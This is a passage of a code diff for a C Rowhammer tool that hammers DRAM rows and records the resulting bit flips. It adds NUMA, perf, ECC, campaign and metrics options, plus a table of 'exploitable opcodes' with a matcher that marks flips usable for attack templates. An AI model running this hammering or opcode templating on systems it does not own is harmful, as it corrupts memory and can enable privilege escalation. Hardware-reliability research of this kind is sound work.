@@ -1,6 +1,5 @@
 #include <time.h>
 #include <stdio.h>
-#include <sched.h>
 #include <fcntl.h>
 #include <unistd.h>
 #include <stdlib.h>
@@ -8,65 +7,110 @@
 #include <string.h>
 #include <getopt.h>
 #include <inttypes.h>
-#include <sys/mman.h>
 #include <errno.h>
-#include "asm.h"
-#include "util.h"
-#include "hammer.h" 
+#include <signal.h>
+#include <libgen.h>
+#include <pthread.h>
+#include "libhammer.h"
+#include "daemon.h"
+#include "campaign.h"
+#include "budget.h"
+#include "coverage.h"
+#include "metrics.h"
+#include "sample.h"
 
 /* ------------------------------ GLOBAL CONSTANTS ------------------------------ */
 
-/* MEMORY MAPPING */
-#define BUFFER_SIZE (1ULL << 21) 								// Size: 2MB
-#define MMAP_FLAGS  (MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED)
-#define PROT_FLAGS  (PROT_READ | PROT_WRITE)
-#define MADV_FLAGS  (MADV_HUGEPAGE)								// THPeligible
-
-/* DATA FILLING */
-#define SAME_FILL   1
-#define RANDOM_FILL 2
-
-/* DRAM FUNCTIONS GENERATION */
-#define POOL_SIZE 15000					// Conflict Pool Size 
-#define ROUNDS 5000						// No of rounds per (base, probe) access
-#define CUTOFF 350						// Threshold cutoff for conflict
-
-#define CACHELINE_BITS 6
-#define HUGE_PAGE_KNOWN_BITS 21
-#define BITS_TO_PERMUTE 7
-#define NUM_FUNC_MASKS 4
+#define NUM_BUFFERS 20
+#define NUMA_BUFFER_STRIDE (NUM_BUFFERS + 1)						// Buffer slots per NUMA worker
 
 /* OTHER CONFIG */
 
-#define ROW_BIT_LIMIT 16
 #define NACTIVATIONS 4 << 20
-#define CONTROLLED_ROWS (1 << 4)
-#define CONTROLLED_BANKS 8
-#define PAGE_SIZE 4096
-#define ROW_SIZE (PAGE_SIZE * 2)
 #define OPCODE_OFFSET 0x8dcf
-#define ENTROPY_PADDING_SIZE sizeof(uint64_t)
+
+/* Startup profile check (-V) */
+#define VALIDATE_OFF 0
+#define VALIDATE_WARN 1
+#define VALIDATE_FAIL 2
+#define VALIDATE_DISCOVER 3
+#define VALIDATE_SAMPLES 2048										// Clustered addresses when rediscovering
+
+#define COVERAGE_DEFAULT_PATH "coverage.txt"
+#define OPT_RESUME 256												// --resume, long option only
+#define OPT_SEED 257												// --seed, long option only
+#define OPT_STAT 258												// --stat, long option only
 
 /* UTIL MACROS */
 #define PAGE_ALIGN(x) (x - (x % PAGE_SIZE))
 #define PAGE_OFFSET(x) (x & ((1 << 12) - 1))
 
-#define PREV_ROW (-1)
-#define NEXT_ROW (1)
-
 
 /* CONFIG AND GETOPT */
 hammer_config_t *hammer_conf;
-
-/* HARDCODED DRAM CONFIG */
-static uint64_t hwsec05_function_masks[NUM_FUNC_MASKS] = {
-	0x22000,	// BA0(13, 17)
-	0x44000, 	// BA1(14, 18)
-	0x110000, 	// BA2(16, 20)
-	0x88000, 	// RANK(15, 19)
+static hammer_ctx_t ctx;
+static load_t load;
+static sample_t sample;
+static coverage_t cov;
+static coverage_t *coverage;					// -O, NULL if off
+static volatile sig_atomic_t sweep_stop;		// SIGINT/SIGTERM with -O, finish the triplet and save
+static metrics_t metrics_state;
+static metrics_t *metrics;						// -X, NULL if off
+static stats_t *stats;							// shm segment, NULL if shm is unavailable
+
+vuln_opcode opcodes[NUM_EXPLOITABLE_OPCODES] = {
+        {0x8c1c, 4, ONE_TO_ZERO},
+        {0x8c32, 3, ONE_TO_ZERO},
+        {0x8d4e, 0, ZERO_TO_ONE},
+        {0x8d4f, 0, ONE_TO_ZERO},
+        {0x8d59, 0, ZERO_TO_ONE},
+        {0x8d59, 1, ZERO_TO_ONE},
+        {0x8d59, 2, ZERO_TO_ONE},
+        {0x8d59, 3, ONE_TO_ZERO},
+        {0x8d59, 6, ONE_TO_ZERO},
+        {0x8d5a, 5, ZERO_TO_ONE},
+        {0x8d5d, 7, ZERO_TO_ONE},
+        {0x8d5e, 0, ZERO_TO_ONE},
+        {0x8d5f, 0, ONE_TO_ZERO},
+        {0x8dbd, 3, ZERO_TO_ONE},
+        {0x8dbd, 7, ONE_TO_ZERO},
+        {0x8dbf, 0, ONE_TO_ZERO},
+        {0x8dbf, 3, ZERO_TO_ONE},
+        {0x8dc4, 3, ONE_TO_ZERO},
+        {0x8dc5, 1, ZERO_TO_ONE},
+        {0x8dc5, 2, ZERO_TO_ONE},
+        {0x8dc9, 3, ZERO_TO_ONE},
+        {0x8dc9, 4, ZERO_TO_ONE},
+        {0x8dca, 7, ONE_TO_ZERO},
+        {0x8dcb, 3, ZERO_TO_ONE},
+        {0x8dcf, 0, ZERO_TO_ONE},
+        {0x8dcf, 3, ZERO_TO_ONE},
+        {0x8dd0, 2, ONE_TO_ZERO},
+        {0x8dd1, 0, ONE_TO_ZERO},
+        {0x8e23, 6, ONE_TO_ZERO},
 };
 
-static uint64_t row_mask = 0x1e0000;
+/* State of one sweep, handed to the result callback */
+typedef struct __sweep {
+	uint8_t find_template;
+	template_t *template;
+	double ref_rate;
+	uint64_t flips;
+	uint64_t flips_at[HAMMER_MAX_RADIUS + 1];	// by distance from the aggressors, -B
+	uint64_t edac_ce, edac_ue;
+	uint64_t acts, elapsed_ns;					// per bank, for the rates under load
+	double load_mb;
+} sweep_t;
+
+typedef struct __numa_worker {
+	pthread_t tid;
+	int node;
+	unsigned slot;
+	unsigned nbuffers;
+	flipmap_t flips;						// handed over by the worker on exit
+	uint64_t flips_at[HAMMER_MAX_RADIUS + 1];
+	int status;								// 0 or -errno the worker stopped on
+} numa_worker_t;
 
 /* ------------------------------------------------------------------------------ */
 
@@ -104,7 +148,14 @@ void print_usage(){
 	printf("\nusage: ddr3 [-arv] [-b bank_no.] [-r random_hammering]");
 	printf("\n            [-R hammering_rounds] [-n activation_count]");
 	printf("\n            [-p random_pairs] [-P print_rows] [-v verbose]");
-	printf("\n            [-h help]\n");
+	printf("\n            [-i interleave_banks] [-N numa_node] [-e perf]");
+	printf("\n            [-I infer_rows] [-M row_map] [-g ddr3|ddr4]");
+	printf("\n            [-c cpu|auto] [-F fifo_prio] [-D daemon_socket]");
+	printf("\n            [-C campaign] [-E edac_root] [-T time_budget]");
+	printf("\n            [-H history] [-K cluster_samples] [-B blast_radius]");
+	printf("\n            [-L load] [-V off|warn|fail|discover]");
+	printf("\n            [-O coverage] [--resume] [-X metrics_file]");
+	printf("\n            [-S sample] [--seed seed] [--stat pid] [-h help]\n");
 
 	printf("\nUse -h (--help) flag for detailed argument information.\n\n");
 }
@@ -114,7 +165,14 @@ void print_help(){
 	printf("\nusage: ddr3 [-arv] [-b bank_no.] [-r random_hammering]");
 	printf("\n            [-R hammering_rounds] [-n activation_count]");
 	printf("\n            [-p random_pairs] [-P print_rows] [-v verbose]");
-	printf("\n            [-h help]\n\n\n");
+	printf("\n            [-i interleave_banks] [-N numa_node] [-e perf]");
+	printf("\n            [-I infer_rows] [-M row_map] [-g ddr3|ddr4]");
+	printf("\n            [-c cpu|auto] [-F fifo_prio] [-D daemon_socket]");
+	printf("\n            [-C campaign] [-E edac_root] [-T time_budget]");
+	printf("\n            [-H history] [-K cluster_samples] [-B blast_radius]");
+	printf("\n            [-L load] [-V off|warn|fail|discover]");
+	printf("\n            [-O coverage] [--resume] [-X metrics_file]");
+	printf("\n            [-S sample] [--seed seed] [--stat pid] [-h help]\n\n\n");
 
 	printf("Detailed argument information:\n\n");
 	// printf("These are common ddr3 commands used in various situations:\n");
@@ -127,6 +185,33 @@ void print_help(){
 	printf("  -R --rounds <hammering rounds>   Hammering rounds per aggressor row pairs.               (Value required)\n");
 	printf("  -p --r_pairs <random pairs>      Hammer provided amount of random aggressor row pairs.   (Value required)\n");
 	printf("  -n --nactiv <activation count>   Activation count per hammering round.                   (Value required)\n");
+	printf("  -i --interleave <no. of banks>   Hammer triplets of several banks in one stream.         (Value required)\n");
+	printf("  -I --infer_rows                  Infer physical row adjacency by single-sided hammering.\n");
+	printf("  -M --row_map <file>              Row adjacency map to load (or save with -I).            (Default: rowmap.txt)\n");
+	printf("  -g --gen <ddr3|ddr4|profile>     Memory generation and geometry.                         (Default: binary name)\n");
+	printf("  -e --perf                        Hardware counters (LLC misses, IMC ACTs) per hammer call.\n");
+	printf("  -N --numa <node|all>             Bind buffers and threads to a node, or one worker/node. (Value required)\n");
+	printf("  -c --cpu <cpu|auto>              Pin to a CPU, auto picks an isolated one if any.        (Value required)\n");
+	printf("  -F --fifo <priority>             Run as SCHED_FIFO with priority (needs CAP_SYS_NICE).   (Value required)\n");
+	printf("  -C --campaign <file>             Run a parameter sweep and write its result matrix.      (Value required)\n");
+	printf("  -D --daemon <socket>             Keep a warm buffer pool and serve jobs on a Unix socket. (Value required)\n");
+	printf("  -T --time-budget <seconds>       Hammer the most promising triplets first until the deadline. (Value required)\n");
+	printf("  -H --history <file>              Yield history to prioritise -T by, updated at the end.  (Value required)\n");
+	printf("  -K --cluster <samples>           Cluster random addresses into bank sets, solve functions. (Value required)\n");
+	printf("  -B --blast <rows>                Also scan rows up to <rows> away from the aggressors.  (Default: 0, max %d)\n", HAMMER_MAX_RADIUS);
+	printf("  -L --load <threads>[,<MB/s>[,stream|random[,node]]]\n");
+	printf("                                   Background memory traffic while hammering.             (Default: unthrottled, stream)\n");
+	printf("  -V --validate <off|warn|fail|discover>\n");
+	printf("                                   Timing spot check of the profile at startup, on mismatch. (Default: warn)\n");
+	printf("  -O --coverage <file>             Record the triplets a sweep got through, saved on SIGINT. (Value required)\n");
+	printf("     --resume                      Skip the triplets -O <file> already covers.             (Default: %s)\n", COVERAGE_DEFAULT_PATH);
+	printf("  -S --sample <rate>[,<half width>[,<max units>]]\n");
+	printf("                                   Screen random triplets until the flip rate is clearly below/above <rate>. (Default width: rate/4)\n");
+	printf("     --seed <seed>                 Order of the sampled triplets, printed to reproduce a screen. (Default: clock)\n");
+	printf("     --stat <pid>                  Print the live statistics of the run with <pid> and exit.\n");
+	printf("  -X --metrics <file.prom>         Prometheus textfile with the sweep's counters, rewritten every %llu s. (Value required)\n",
+			METRICS_INTERVAL_NS / 1000000000ULL);
+	printf("  -E --edac <sysfs root>           Read ECC error counters from <root>/mc/mc*.             (Default: %s)\n", EDAC_DEFAULT_ROOT);
 	
 	// printf("\nExtra arguments (more to be added soon):\n");
 	printf("  -P --print_rows <bank number>	   Print addressable row pairs in a particular bank.       (Default bank: 0)\n");
@@ -141,6 +226,9 @@ void print_config(){
 
 	printf("HAMMERING CONFIGURATION:\n\n");
 
+	printf("[INFO] DRAM profile               :   %s (DDR%d, %u functions, %u banks x %u rows)\n",
+			ctx.dram.name, ctx.dram.gen, ctx.dram.nmasks, ctx.dram.nbanks, ctx.dram.nrows);
+
 	if (hammer_conf->random_mode){
 		printf("[INFO] Hammering Mode             :   RANDOM\n");
 		printf("[INFO] Hammering Bank(s) no.      :   ALL (POSSIBLY)\n");
@@ -148,7 +236,11 @@ void print_config(){
 
 	}
 	else {
-		if (hammer_conf->all_banks == 1){
+		if (hammer_conf->interleave_banks){
+			printf("[INFO] Hammering Mode             :   INTERLEAVED (%ld BANKS AT ONCE)\n", hammer_conf->interleave_banks);
+			printf("[INFO] Hammering Bank(s) no.      :   ALL\n");
+		}
+		else if (hammer_conf->all_banks == 1){
 			printf("[INFO] Hammering Mode             :   SEQUENTIAL (BANK BY BANK)\n");
 			printf("[INFO] Hammering Bank(s) no.      :   ALL\n");
 		}
@@ -160,588 +252,375 @@ void print_config(){
 	printf("[INFO] Hammering Rounds           :   %ld\n", hammer_conf->hammering_rounds);
 	printf("[INFO] Activations Per Round      :   %0.1f Million\n", (float) hammer_conf->num_row_activations / 1000000);
 	printf("[INFO] Printing Rows for Bank %ld   :   %s\n", hammer_conf->bank_n == -1? 0 : hammer_conf->bank_n, hammer_conf->print_rows ? "YES\n" : "NO");
-	printf("[INFO] Verbose mode               :   %s\n", hammer_conf->verbose ? "ON\n" : "OFF\n");
-}
-
-/* Mapping a contiguous buffer of 2MB and aligning
-   it on 2MB boundary for THP collapsing. */
-uint8_t *map_contiguous_buffer(void *aligned_address){
-	
-	uint8_t *buffer;
-		/* Mmaping a buffer with aligned 2MB address */
-	buffer = (uint8_t *) mmap(aligned_address, BUFFER_SIZE, PROT_FLAGS, MMAP_FLAGS, -1, 0);
-	if(buffer == MAP_FAILED) {
-		pr_err("[ERROR] MMAP Failed. Exiting...\n");
-		exit(EXIT_FAILURE);
+	if (hammer_conf->numa_all){
+		printf("[INFO] NUMA Placement             :   ONE WORKER PER NODE (%u NODES)\n", ctx.numa_topo.nnodes);
 	}
-
-	/* Enable Transparent Huge Pages (THP)
-	   and making it THPeligible. */
-	if(madvise(buffer, BUFFER_SIZE, MADV_FLAGS)) {
-		pr_err("[ERROR] MADVISE Failed. Exiting...\n");
-		exit_safely(buffer);
+	else if (hammer_conf->numa_node != NUMA_NO_NODE){
+		printf("[INFO] NUMA Placement             :   NODE %d\n", hammer_conf->numa_node);
 	}
-
-	/* Avoid swapping */
-    mlock(buffer, BUFFER_SIZE);
-
-	return buffer;
-}
-
-/* Fill buffer with data. */
-void fill_buffer(uint8_t *buffer, unsigned value, int choice){	
-
-	if (choice == 1){
-		/* Fill with known pattern.
-		   In this case 0xFF */
-		memset(buffer, value, BUFFER_SIZE);
-
+	else {
+		printf("[INFO] NUMA Placement             :   KERNEL DEFAULT\n");
 	}
-	else if(choice == 2){
-		/* TODO: memset with random
-		   pattern */
-
+	if (ctx.env.cpu != ENV_NO_CPU){
+		printf("[INFO] CPU                        :   %d%s (%u isolated)\n", ctx.env.cpu,
+				ctx.env.isolated ? ", ISOLATED" : "", ctx.env.nisolated);
 	}
 	else {
-		pr_err("[ERROR] Wrong Choice for buffer filling. Exiting...\n");
-		exit_safely(buffer);
+		printf("[INFO] CPU                        :   NOT PINNED (%u isolated)\n", ctx.env.nisolated);
 	}
-}
-
-static __always_inline uint8_t *get_rand_addr(uint8_t *buf)
-{
-	return (buf) + (rand() % BUFFER_SIZE);
-}
-
-static __always_inline uint8_t get_random_byte(void)
-{
-	return (rand() % (1 << 8));
-}
-
-static void __add_entropy_page(uint8_t *page)
-{
-	unsigned i;
-	for(i = 0; i < ENTROPY_PADDING_SIZE; ++i) {
-		page[i] = get_random_byte();
+	if (ctx.env.fifo_prio){
+		printf("[INFO] Scheduling                 :   SCHED_FIFO %d\n", ctx.env.fifo_prio);
 	}
-}
-
-static void add_entropy(uint8_t *buf)
-{
-	unsigned i;
-
-	for(i = 0; i < BUFFER_SIZE; i += PAGE_SIZE) {
-		__add_entropy_page(buf + i);
+	else {
+		printf("[INFO] Scheduling                 :   SCHED_OTHER\n");
 	}
-}	
-
-#ifdef CALC_DRAM_CONFIG
-static int _qsort_compare(const void *t1, const void *t2)
-{
-	uint64_t val1, val2;
-	val1 = *(uint64_t *) t1;
-	val2 = *(uint64_t *) t2;
-
-	if(val1 > val2) {
-		return 1;
+	if (ctx.env.governor[0]){
+		printf("[INFO] CPU frequency              :   %s, %lu MHz (%lu-%lu)\n", ctx.env.governor,
+				ctx.env.cur_khz / 1000, ctx.env.min_khz / 1000, ctx.env.max_khz / 1000);
+	}
+	else {
+		printf("[INFO] CPU frequency              :   NO CPUFREQ\n");
+	}
+	printf("[INFO] SMT                        :   %s", ctx.env.smt_active == 1 ? "ON" : (ctx.env.smt_active == 0 ? "OFF" : "UNKNOWN"));
+	if (ctx.env.sibling >= 0){
+		printf(", sibling CPU %d online", ctx.env.sibling);
 	}
-	else if (val1 < val2) {
-		return -1; 
+	printf("\n");
+	printf("[INFO] TSC                        :   %0.3f GHz, %s, %lu cycles overhead\n", tsc_cal.ticks_per_ns,
+			tsc_cal.invariant ? "invariant" : "NOT invariant", tsc_cal.overhead);
+	if (hammer_conf->infer_rows){
+		printf("[INFO] Row adjacency              :   INFERRING -> %s\n", hammer_conf->row_map_path);
 	}
 	else {
-		return 0;
+		printf("[INFO] Row adjacency              :   %u/%u rows inferred\n", rowmap_ninferred(&ctx.row_map), ctx.row_map.nrows);
+	}
+	printf("[INFO] Perf counters              :   %s\n", hammer_conf->perf ? "ON" : "OFF");
+	if (ctx.edac.nmcs){
+		printf("[INFO] EDAC counters              :   %u controllers (%s)\n", ctx.edac.nmcs, ctx.edac.root);
+	}
+	else {
+		printf("[INFO] EDAC counters              :   NOT AVAILABLE\n");
+	}
+	if (hammer_conf->campaign_path){
+		printf("[INFO] Campaign                   :   %s\n", hammer_conf->campaign_path);
+	}
+	if (hammer_conf->time_budget > 0){
+		printf("[INFO] Time budget                :   %0.1f s, history %s\n", hammer_conf->time_budget,
+				hammer_conf->history_path ? hammer_conf->history_path : "NONE");
+	}
+	if (hammer_conf->sample_spec){
+		printf("[INFO] Sampling                   :   threshold %0.4f, half width %0.4f, seed %lu\n",
+				sample.threshold, sample.half_width, hammer_conf->sample_seed);
+	}
+	if (hammer_conf->blast_radius){
+		printf("[INFO] Blast radius               :   %u rows around the aggressors\n", hammer_conf->blast_radius);
+	}
+	if (hammer_conf->load_spec){
+		printf("[INFO] Background load            :   %u threads, %s, ", load.nthreads,
+				load.pattern == LOAD_RANDOM ? "RANDOM" : "STREAM");
+		if (load.mbps > 0){
+			printf("%0.0f MB/s", load.mbps);
+		}
+		else {
+			printf("UNTHROTTLED");
+		}
+		if (load.node != NUMA_NO_NODE){
+			printf(", node %d", load.node);
+		}
+		printf("\n");
 	}
+	if (hammer_conf->metrics_path){
+		printf("[INFO] Metrics                    :   %s\n", hammer_conf->metrics_path);
+	}
+	if (stats){
+		printf("[INFO] Live statistics            :   /dev/shm" STATS_NAME_FMT " (--stat %d)\n", stats->pid, stats->pid);
+	}
+	if (hammer_conf->daemon_path){
+		printf("[INFO] Daemon socket              :   %s\n", hammer_conf->daemon_path);
+	}
+	printf("[INFO] Verbose mode               :   %s\n", hammer_conf->verbose ? "ON\n" : "OFF\n");
 }
 
-static uint64_t get_median_access_time(volatile uint8_t *a, volatile uint8_t *b)
+/* Tell the user what hammer_ctx_init() had to give up on. */
+static void print_warnings(hammer_ctx_t *c)
 {
-	uint64_t t_start, t_delta, median_time, time_measurements[ROUNDS];
-	uint16_t rounds;
-
-
-	rounds = ROUNDS - 1;
-	sched_yield();
-	while(rounds--) {
-		t_start = rdtscp();
-		*a;
-		*b;
-		t_delta = rdtscp() - t_start;
-		time_measurements[rounds] = t_delta;
-		lfence();
-		clflush(a);
-		clflush(b);
-		mfence();
+	if(c->warnings & HAMMER_WARN_PIN) {
+		pr_err("[WARN] Could not pin to node %d\n", c->conf.numa_node);
 	}
-
-	qsort(time_measurements, ROUNDS, sizeof(uint64_t), _qsort_compare);
-	median_time = time_measurements[ROUNDS / 2 - 1];
-
-	return median_time;
+	if(c->warnings & HAMMER_WARN_MBIND) {
+		pr_err("[WARN] MBIND to node %d failed. Using default placement.\n", c->conf.numa_node);
+	}
+	if(c->warnings & HAMMER_WARN_PERF) {
+		pr_err("[WARN] perf_event_open failed. Counters disabled.\n");
+	}
+	if(c->warnings & HAMMER_WARN_NO_IMC) {
+		pr_err("[WARN] No uncore IMC counters available. ACT/s is nominal.\n");
+	}
+	if(c->warnings & HAMMER_WARN_ROWMAP) {
+		pr_err("[WARN] No usable %s row map in %s. Assuming logical adjacency.\n",
+				c->dram.name, c->conf.row_map_path);
+	}
+	if(c->warnings & HAMMER_WARN_TSC) {
+		pr_err("[WARN] TSC is not invariant, cycle counts are not comparable across hosts.\n");
+	}
+	if(c->warnings & HAMMER_WARN_CPU) {
+		pr_err("[WARN] Could not pin to CPU %d. Running unpinned.\n", c->conf.cpu);
+	}
+	if(c->warnings & HAMMER_WARN_FIFO) {
+		pr_err("[WARN] SCHED_FIFO %d refused (needs CAP_SYS_NICE).\n", c->conf.fifo_prio);
+	}
+	if(c->warnings & HAMMER_WARN_GOVERNOR) {
+		pr_err("[WARN] cpufreq governor is %s, rates will vary with frequency.\n", c->env.governor);
+	}
+	if(c->warnings & HAMMER_WARN_SMT) {
+		pr_err("[WARN] SMT sibling %d of CPU %d is online and shares its core.\n", c->env.sibling, c->env.cpu);
+	}
+	if(c->warnings & HAMMER_WARN_EDAC) {
+		pr_err("[WARN] No EDAC memory controllers under %s. ECC counters disabled.\n", c->edac.root);
+	}
+	if(c->warnings & HAMMER_WARN_FLIPMAP) {
+		pr_err("[WARN] Out of memory tracking flips, pool totals are short.\n");
+	}
+	c->warnings = 0;
 }
 
-//-----------------------------------------------------------------
-// from https://graphics.stanford.edu/~seander/bithacks.html#NextBitPermutation
-size_t next_bit_perm(size_t v) {
-        size_t t = v | (v - 1);
-        return (t + 1) | (((~t & -~t) - 1) >> (__builtin_ctzl(v) + 1));
+/* Report the counters around a hammer call. Every one of the
+   naggs aggressor loads per iteration should miss the LLC,
+   anything well below that means the kernel hit in cache. */
+static void print_perf(hammer_ctx_t *c, const perf_sample_t *sample, unsigned naggs)
+{
+	uint64_t iterations;
+
+	iterations = sample->iterations;
+	pr_info("[PERF] %0.2f LLC misses/iter, %0.2f L1D loads/iter, %0.1f cycles/iter, %0.2f M ACT/s (%s)\n",
+			sample->misses_per_iter, iterations ? (double) sample->l1d_loads / iterations : 0,
+			iterations ? (double) sample->cycles / iterations : 0, sample->acts_per_sec / 1e6,
+			sample->imc_measured ? "IMC" : "nominal");
+	if(c->perf && c->perf->nimc_cas) {
+		pr_info("[PERF] %0.2f IMC CAS reads/iter\n", iterations ? (double) sample->imc_cas / iterations : 0);
+	}
+	if(sample->misses_per_iter < 0.5 * naggs) {
+		pr_info("[WARN] Aggressors are not reaching DRAM (%0.2f of %u misses/iter)\n", sample->misses_per_iter, naggs);
+	}
 }
 
-/* General algorithm in mind:
- * 1. start with the smallest possible value made up by n bits (1 <= n <= 6)
- *    and shift that left by 6 as the first 6 bits are needed to address the cacheline.
- * 2. keep getting a new value which has exactly n bits set and test that as the function.
- * 3. if the function holds for the base and probe addresses in the conflicitng pool
- *    (say 98% of probe addresses?) consider it as a valid function.
- * 4. stop when you've reached the highest possible value made up of exactly n bits set for
- *    which we have control over (1 << 30).
- * 5. return an array of candidates to pipe into the fn-reduce script to filter out "duplicates"
- */ 
-
-static uint64_t *calc_functions(uint8_t **conflict_addrs, size_t conflict_addrs_size, uint8_t *base_addr)
+/* Match a flipped byte against the exploitable opcodes. The
+   direction has to be the one the victim pattern allows. */
+static template_t *match_template(const hammer_result_t *result, const hammer_flip_t *flip)
 {
-	uint8_t address_bits;
-	uint64_t function, smallest_bit_perm, xor_base, xor_probe;
-	uint64_t *func_array;
-	size_t array_sz;
-	unsigned idx;
-	unsigned i;
-	uint8_t all_equal;
-
-
-	array_sz = 50;
-	func_array = malloc(sizeof(uint64_t) * array_sz); //if we find more, then realloc
-	idx = 0;
-	for(address_bits = 1; address_bits < BITS_TO_PERMUTE; ++address_bits) { // 1 <= n <= 6
-		smallest_bit_perm = ((1 << address_bits) - 1) << CACHELINE_BITS;
-		function = smallest_bit_perm;
-		while(function < (1 << HUGE_PAGE_KNOWN_BITS)) { // get max to bit 20
-			all_equal = (uint8_t) conflict_addrs_size / 10; // 90%
-			for(i = 0; i < conflict_addrs_size; ++i) {
-				xor_base = __builtin_parityl(((uintptr_t) base_addr & ((1 << HUGE_PAGE_KNOWN_BITS) - 1)) & function);
-				xor_probe = __builtin_parityl(((uintptr_t) conflict_addrs[i] & ((1 << HUGE_PAGE_KNOWN_BITS) - 1)) & function);
-				if(xor_base != xor_probe) {
-					--all_equal;
-					if(!all_equal) {
-						break;
-					}
-				}
-			}
-			if(all_equal) {
-				if(idx == array_sz) {
-					array_sz *= 2;
-					func_array = realloc(func_array, array_sz * sizeof(uint64_t));
-				}
-				func_array[idx++] = function;
-			}
-			function = next_bit_perm(function);
+	template_t *template;
+	uint8_t direction;
+	unsigned k;
+
+	direction = result->victim_pattern == 0x00 ? ZERO_TO_ONE : ONE_TO_ZERO;
+	for(k = 0; k < NUM_EXPLOITABLE_OPCODES; k++) {
+		if((flip->addr - opcodes[k].file_offset) % PAGE_SIZE == 0 &&
+		   (uint8_t) (flip->expected ^ (1 << opcodes[k].bit_offset)) == flip->observed &&
+		   opcodes[k].direction == direction) {
+			pr_info("Template Found!!!! OPCODE NO: %d\n", k);
+			template = malloc(sizeof(template_t));
+			assert(template != NULL);
+			template->addr = flip->addr;
+			template->op = opcodes[k];
+			return template;
 		}
 	}
 
-	func_array[idx] = 0;
-	pr_debug("INDEX = %u\n", idx);
-	return func_array;
+	return NULL;
 }
 
+/* Called by libhammer after every job */
+static void on_result(hammer_ctx_t *c, const hammer_result_t *result, void *arg)
+{
+	sweep_t *sweep;
+	unsigned i;
+	double rate;
 
-/* Find DRAM function candidates by 
-   generating conflict pool of addresses
-   in same bank using time side channels.  */
-void generate_dram_functions(uint8_t *buffer){	
-
-	uint8_t *base_addr, *probe_addr;
-    uint8_t **seen_addrs, **conflict_addrs;
-    size_t seen_addr_elems, conflict_addr_elems;
-    uint64_t median_time, *function_candidates;
-
-	seen_addr_elems = 0;
-    conflict_addr_elems = 0;
-
-	/* Keeping track of already accesses
-	   addresses to avoid them. */
- 	seen_addrs 		= malloc(POOL_SIZE * sizeof(uint8_t *));
-	conflict_addrs 	= malloc((POOL_SIZE / 2) * sizeof(uint8_t *));
-	
-	if(!seen_addrs || !conflict_addrs) {
-		pr_err("[ERROR] Cannot allocate seen_addr set/array. Exiting...\n");
-		exit_safely(buffer);
+	sweep = (sweep_t *) arg;
+	if(result->status) {
+		return;
 	}
 
-	/* TODO: Add comment here. */
-    srand(time(NULL));
-
-	/* Select random base address */
-    base_addr = get_rand_addr(buffer);
-	seen_addrs[seen_addr_elems++] = base_addr;
-
-	while(seen_addr_elems < POOL_SIZE - 1) {
-		
-		/* Select random probe address */
-		probe_addr = get_rand_addr(buffer);
-
-		/* Avoid duplicate accesses */
-		if(set_contains(seen_addrs, seen_addr_elems, probe_addr)) {
-			continue;
+	if(result->interleaved > 1) {
+		rate = result->acts_per_sec;
+		pr_info("BANK %u: %lu ACTs, %0.2f M ACT/s (%0.1f%% of single-bank)\n", result->bank, result->activations,
+				rate / 1e6, sweep->ref_rate ? 100.0 * rate / sweep->ref_rate : 0);
+	}
+	else {
+		if(result->load_mbps > 0) {
+			pr_info("Hammering agg1 %p ---- vic %p ---- agg2 %p (load %0.0f MB/s)\n", result->agg1, result->victim,
+					result->agg2, result->load_mbps);
+		}
+		else {
+			pr_info("Hammering agg1 %p ---- vic %p ---- agg2 %p\n", result->agg1, result->victim, result->agg2);
+		}
+		if(result->have_perf) {
+			print_perf(c, &result->perf, 2);
 		}
-
-		seen_addrs[seen_addr_elems++] = probe_addr;
-		
-		/* Calculating time access between base
-   		   and probe addresses. */
-		median_time = get_median_access_time(base_addr, probe_addr);
-        //pr_info("%lu\n", median_time);
-
-		/* If the median is above the cut off
-		   threshold, add it to conflict pool. */
-		if(median_time >= CUTOFF) {
-            conflict_addrs[conflict_addr_elems++] = probe_addr;
-        }
 	}
 
-	/* TODO: */
-    function_candidates = calc_functions(conflict_addrs, conflict_addr_elems, base_addr);
-
-	while(*function_candidates != 0) {
-		pr_info("0x%lx\n", *function_candidates);
-		++function_candidates;
+	if(result->cached) {
+		pr_debug("[DEBUG] %u scanned rows of bank %u row %u were cached after hammering\n", result->cached,
+				 result->bank, result->rows[1]);
 	}
-}
-#endif
-
-char *bit_string(uint64_t val)
-{
-    static char bit_str[256];
-    char itoa_str[8];
-    strcpy(bit_str, "");
-    for (int shift = 0; shift < 64; shift++) {
-        if ((val >> shift) & 1) {
-            if (strcmp(bit_str, "") != 0) {
-                strcat(bit_str, "+ ");
-            }
-            sprintf(itoa_str, "%d ", shift);
-            strcat(bit_str, itoa_str);
-        }
-    }
-
-    return bit_str;
-}
 
+	/* Corrected flips never show up in the victim */
+	if(result->have_edac && (result->edac.ce || result->edac.ue)) {
+		pr_info("[EDAC] mc%d: %lu corrected, %lu uncorrected while hammering bank %u rows %u-%u-%u%s\n",
+				result->edac.mc, result->edac.ce, result->edac.ue, result->bank, result->rows[0],
+				result->rows[1], result->rows[2], result->interleaved > 1 ? " (shared stream)" : "");
+		sweep->edac_ce += result->edac.ce;
+		sweep->edac_ue += result->edac.ue;
+	}
 
-uintptr_t dram_to_physical(dram_addr_t dram_addr)
-{
-	unsigned i, bit_pos;
-	uint64_t row_offset;
-	uintptr_t physaddr;
-
-	row_offset = __builtin_ctzl(row_mask);
-	physaddr = dram_addr.row << row_offset;
-	//pr_info("row_bits = %s\n", bit_string(physaddr));
-	for(i = 0; i < NUM_FUNC_MASKS; ++i) {
-
-		// make sure that when you set the function bits you're not setting bits which conflict with the row bits.
-
-		if(__builtin_parityl((uintptr_t) physaddr & hwsec05_function_masks[i]) == dram_addr.ch_to_bank[i]) {
-			continue;
+	for(i = 0; i < result->nrecorded; ++i) {
+		if(result->recorded[i].distance != 1 || result->nblast) {
+			pr_info("row at distance %u flipped addr = %p, was 0x%02X is now 0x%x\n", result->recorded[i].distance,
+					(void *) result->recorded[i].addr, result->recorded[i].expected, result->recorded[i].observed);
 		}
-
-		if(__builtin_clzl(hwsec05_function_masks[i] & 1L)) { // if hsb of the fn is set, unset the lower one.
-			bit_pos = 1 << __builtin_ctzl(hwsec05_function_masks[i]);
+		else {
+			pr_info("victim flipped addr = %p, was 0x%02X is now 0x%x\n", (void *) result->recorded[i].addr,
+					result->recorded[i].expected, result->recorded[i].observed);
 		}
-		else if(__builtin_ctzl(hwsec05_function_masks[i] & 1L)) { // if lsb of the fn is set, unset the upper one.
-			bit_pos = 1 << __builtin_clzl(hwsec05_function_masks[i]);
+		if(sweep->find_template && sweep->template == NULL) {
+			sweep->template = match_template(result, &result->recorded[i]);
 		}
-		
-		physaddr ^= bit_pos; // unset the "conflicting bit"
